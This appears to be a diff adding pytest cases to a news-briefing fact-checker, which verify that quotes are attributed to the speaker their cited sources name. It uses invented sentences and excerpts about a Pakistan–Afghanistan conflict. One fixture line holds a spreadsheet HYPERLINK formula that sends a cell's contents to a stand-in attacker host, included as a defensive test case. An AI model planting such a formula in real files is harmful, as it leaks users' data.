@@ -15,6 +15,7 @@ from test_factcheck_5 import checked
 
 from explainer.attribution import Cited
 from explainer.polarity import flipped_negations
+from explainer.speakers import naming_words
 
 
 @pytest.fixture(scope="module")
@@ -176,3 +177,115 @@ HONEST_REAL = [
 @pytest.mark.parametrize("file, old, new", HONEST_REAL, ids=[n[:40] for _, _, n in HONEST_REAL])
 def test_honest_negations_in_the_real_briefing_build(project: Path, file, old, new):
     assert problems_after(project, file, old, new) == []
+
+
+# --- 2. words given to whom the source gives them ----------------------------------------------------------------
+
+SPEAKERS = [
+    # (the source's sentence, the briefing's, "ok" or who the error names)
+    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
+     "Beta spokesman Lina Dorr said the harbour bridge was closed.",
+     "gives the words to Beta spokesman Lina Dorr, but its cited passages give them to Alpha's defence minister Karl "
+     "Ostrom"),
+    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
+     "Beta's government said the harbour bridge was closed.", "gives the words to Beta's government"),
+    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
+     "According to Lina Dorr, the harbour bridge was closed.", "gives the words to Lina Dorr"),
+    ("The harbour bridge was closed, Alpha officials said.", "The harbour bridge was closed, Beta officials said.",
+     "gives the words to Beta officials"),
+    # honest: the same speaker, by name, title or side; or a passage naming no speaker by name
+    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
+     "Karl Ostrom said the harbour bridge was closed.", "ok"),
+    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
+     "According to Alpha's government, the harbour bridge was closed.", "ok"),
+    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
+     "The harbour bridge was closed, Ostrom said.", "ok"),
+    ("The harbour bridge was closed, officials said.", "Beta officials said the harbour bridge was closed.", "ok"),
+    ("Reporter Yalda Hakim says Alpha's minister acknowledged the harbour bridge was closed.",
+     "Alpha's minister acknowledged the harbour bridge was closed, Yalda Hakim says.", "ok"),
+    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
+     "Beta claims the harbour bridge was closed.", "gives the words to Beta"),
+    # what README says is not read: a speaker without a reporting word ("points out")
+    ("Reporter Yalda Hakim points out that the harbour bridge was closed.",
+     "Lina Dorr said the harbour bridge was closed.", "ok"),
+    # and what it says is refused though honest: a capital speaking for its party, which the briefing does not name
+    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
+     "Northport said the harbour bridge was closed.", "gives the words to Northport"),
+]
+
+
+@pytest.mark.parametrize("given, written, outcome", SPEAKERS, ids=[w[:50] for _, w, _ in SPEAKERS])
+def test_a_sentence_gives_words_to_whom_its_passage_does(fixture_root: Path, given, written, outcome):
+    # "Taliban spokesman Zabihullah Mujahid said" citing the Defense Minister's words keeps every word and figure.
+    lines = checked(fixture_root, given, written)
+    if outcome == "ok":
+        assert lines == []
+    else:
+        assert any(line.startswith(f"content/flood/briefing.yaml:3: `summary`: this sentence {outcome}")
+                   and line.endswith("(name the speaker the source names, or cite the passage that gives the words to "
+                                     "this one)") for line in lines), lines
+
+
+REAL_SPEAKERS = [
+    # (file, the words as published, the rewording, the line refused, what the error says)
+    ("briefing.yaml", "its Defense Minister, Khawaja Asif, had declared",
+     "Taliban spokesman Zabihullah Mujahid said Pakistan had declared", 5,
+     "`summary`: this sentence gives the words to Taliban spokesman Zabihullah Mujahid, but its cited passages give "
+     "them to Pakistan's Defense Minister Khawaja Asif (name the speaker the source names, or cite the passage that "
+     "gives the words to this one)"),
+    ("timeline.yaml", "Defense Minister Khawaja Asif declares", "Taliban spokesman Zabihullah Mujahid declares", 35,
+     "`what`: this sentence gives the words to Taliban spokesman Zabihullah Mujahid"),
+    ("background.yaml", "killing at least 31 people, Pakistani officials\n      said",
+     "killing at least 31 people, Taliban officials\n      said", 23,
+     "`body`: this sentence gives the words to Taliban officials, but its cited passages give them to Pakistani "
+     "officials"),
+    ("claims.yaml", "      - claimant: A Pakistani military spokesman\n        parties: [pakistan]",
+     "      - claimant: A Taliban spokesman\n        parties: [taliban]", 6,
+     "`claimant`: the cited passages give these words to A Pakistani military spokesman, not to A Taliban spokesman "
+     "(name the claimant as the source does, or cite the passage that gives the words to them)"),
+    ("claims.yaml", "      - claimant: A Pakistani military spokesman\n        parties: [pakistan]",
+     "      - claimant: A Pakistani military spokesman\n        parties: [taliban]", 7,
+     "`parties`: the cited passages give these words to A Pakistani military spokesman, of none of the parties "
+     "listed (taliban) (list the party whose speaker the source gives the words to)"),
+    ("claims.yaml", "claimant: Pakistan's Information Minister Attaullah Tarar\n        parties: [pakistan]",
+     "claimant: Taliban spokesman Zabihullah Mujahid\n        parties: [pakistan]", 67,
+     "`claimant`: the cited passages give these words to Pakistan’s Information Minister Attaullah Tarar, not to "
+     "Taliban spokesman Zabihullah Mujahid"),
+]
+
+
+@pytest.mark.parametrize("file, old, new, line, message", REAL_SPEAKERS, ids=[n[:40] for _, _, n, *_ in REAL_SPEAKERS])
+def test_the_real_briefing_gives_words_to_their_speaker(project: Path, file, old, new, line, message):
+    problems = problems_after(project, file, old, new)
+    assert any(p.startswith(f"content/pakistan-afghanistan-war/{file}:{line}: {message}") for p in problems), problems
+
+
+HONEST_SPEAKERS = [
+    ("briefing.yaml", "its Defense Minister, Khawaja Asif, had declared", "Khawaja Asif had declared"),
+    ("background.yaml", "killing at least 31 people, Pakistani officials\n      said",
+     "killing at least 31 people, according to Pakistani\n      officials"),
+    ("claims.yaml", "claimant: Pakistan's Information Minister Attaullah Tarar", "claimant: Attaullah Tarar"),
+    ("claims.yaml", "      - claimant: A Pakistani military spokesman\n", "      - claimant: Pakistan's military\n"),
+    ("timeline.yaml", "Pakistan's Information Minister says drones", "Attaullah Tarar says drones"),
+]
+
+
+@pytest.mark.parametrize("file, old, new", HONEST_SPEAKERS, ids=[n[:40] for _, _, n in HONEST_SPEAKERS])
+def test_the_same_speaker_named_otherwise_still_builds(project: Path, file, old, new):
+    assert problems_after(project, file, old, new) == []
+
+
+NAMES = [
+    # (a speaker as written, the words that name it)
+    ("Taliban spokesman Zabihullah Mujahid", {"taliban", "zabihullah", "mujahid"}),
+    ("Pakistan's Defense Minister Khawaja Asif by Friday morning", {"pakistan", "khawaja", "asif"}),
+    ("regional publication Al-Monitor", {"al-monitor"}),
+    ("the TTP", {"ttp"}),
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', set()),  # no name: a claimant holding a formula is not read
+    ("officials", set()),
+]
+
+
+@pytest.mark.parametrize("words, names", NAMES, ids=[w[:30] for w, _ in NAMES])
+def test_a_speaker_is_named_by_capitalised_words_written_as_names_are(words, names):
+    assert naming_words(words) == names
